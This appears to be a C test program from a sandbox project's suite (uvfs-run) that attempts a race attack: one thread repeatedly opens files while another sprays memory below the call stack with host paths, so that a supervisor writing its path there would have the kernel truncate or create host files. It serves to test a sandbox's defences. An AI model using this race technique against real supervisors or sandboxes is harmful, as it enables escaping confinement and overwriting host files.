// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * race_open.c SECONDS EXISTING NEW - an attack on a supervisor that makes the kernel
 * read a path it wrote into the program's memory: one thread opens, again and again,
 *   "/dev/null" with O_WRONLY|O_TRUNC, and
 *   "/proc/self/fd/0" with O_WRONLY|O_CREAT|O_TRUNC (descriptor 0: a host pipe),
 * half of SECONDS each, on a stack of its own for the calls; another thread fills the
 * memory below that stack's pointer (below the red zone) with "/////.../EXISTING" and
 * "/////.../NEW": wherever in it a supervisor put its own path for the kernel to read,
 * the kernel reads a host path instead.  uvfs-run must give the kernel no path to
 * read: the host's EXISTING keeps its bytes and NEW is never made.  Prints how many
 * opens were made and how many failed; the test (test_uvfs_run.sh) checks the host.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "stack_call.h"

static const char *target;            /* the host path the sprayer writes */
static _Atomic unsigned long opener_sp;
static atomic_bool stop;

/* The stack the opener's system calls are made on: the sprayer writes only in it,
 * never in the opener's own stack, whose frames below a published stack pointer are
 * live again as soon as the call returns (an earlier version crashed so, once in a
 * few runs) */
static char call_stack[16384] __attribute__((aligned(64)));

/* openat(AT_FDCWD, path, flags, 0666) made with the stack pointer at the top of
 * call_stack, where a supervisor that wrote below it would put its path */
static long raw_openat(const char *path, long flags)
{
	return stack_call4(call_stack + sizeof(call_stack), SYS_openat, AT_FDCWD, (long)path,
			   flags, 0666);
}

static void *sprayer(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop)) {
		unsigned long sp = atomic_load(&opener_sp);
		const char *t = target;
		size_t n = strlen(t);
		/* [sp - 2048, sp - 160): the red zone and a little more stay the opener's */
		char *lo = (char *)(sp - 2048), *end = (char *)(sp - 160);

		if (!sp)
			continue;
		memset(lo, '/', (size_t)(end - lo) - n - 1);
		memcpy(end - n - 1, t, n + 1);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	static const struct { const char *path; long flags; } opens[2] = {
		{ "/dev/null", O_WRONLY | O_TRUNC },
		{ "/proc/self/fd/0", O_WRONLY | O_CREAT | O_TRUNC },
	};
	unsigned long made = 0, failed = 0;
	pthread_attr_t attr;
	pthread_t t;
	double secs;

	if (argc != 4)
		return 2;
	secs = atof(argv[1]) / 2;
	for (int k = 0; k < 2; k++) {
		struct timespec a, b;

		target = argv[2 + k] + strspn(argv[2 + k], "/");
		atomic_store(&stop, false);
		atomic_store(&opener_sp, (unsigned long)(call_stack + sizeof(call_stack)));
		pthread_attr_init(&attr);
		if (pthread_create(&t, &attr, sprayer, NULL))
			return 2;
		clock_gettime(CLOCK_MONOTONIC, &a);
		do {
			for (int i = 0; i < 100; i++) {
				long fd = raw_openat(opens[k].path, opens[k].flags);

				if (fd >= 0) {
					made++;
					close((int)fd);
				} else {
					failed++;
				}
			}
			clock_gettime(CLOCK_MONOTONIC, &b);
		} while ((double)(b.tv_sec - a.tv_sec) + (double)(b.tv_nsec - a.tv_nsec) / 1e9 < secs);
		atomic_store(&stop, true);
		pthread_join(t, NULL);
	}
	printf("opens %lu, failed %lu\n", made, failed);
	return 0;
}
